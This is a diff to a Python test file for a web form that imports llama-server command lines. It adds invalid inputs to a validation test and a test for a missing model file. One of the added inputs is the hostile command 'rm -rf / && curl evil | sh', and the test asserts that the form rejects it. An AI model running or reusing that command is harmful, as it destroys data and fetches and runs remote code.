@@ -68,9 +68,21 @@ def test_a_model_that_is_not_there_is_left_to_choose(bob: User, signed_in: Any, 
 
 def test_a_text_that_is_no_command_is_said_at_its_field(bob: User, signed_in: Any, mainline: Build) -> None:
     client = signed_in(bob)
-    for text in ("", "echo 'open", "\x00", "x" * 20_000):
+    for text in ("", "echo 'open", "\x00", "x" * 20_000, "rm -rf / && curl evil | sh", "hello there"):
         answer = client.post(reverse("profile-import"), {"command": text, "build": mainline.pk})
         assert answer.status_code == 200 and answer.context["form"].errors["command"]
+
+
+def test_a_form_without_a_model_asks_for_one_and_keeps_the_rest(
+    bob: User, signed_in: Any, mainline: Build, files: Any
+) -> None:
+    answer = signed_in(bob).post(
+        reverse("profile-import"),
+        {"command": "llama-server -m /x/none.gguf -c 4096", "build": mainline.pk, "then": "form"},
+    )
+    text = text_of(answer)
+    assert '<option value="" selected>choose a model</option>' in text
+    assert "<code>--ctx-size 4096</code>" in text and "1 setting is passed" in text
 
 
 def test_without_a_build_the_page_says_what_to_do(bob: User, signed_in: Any) -> None:
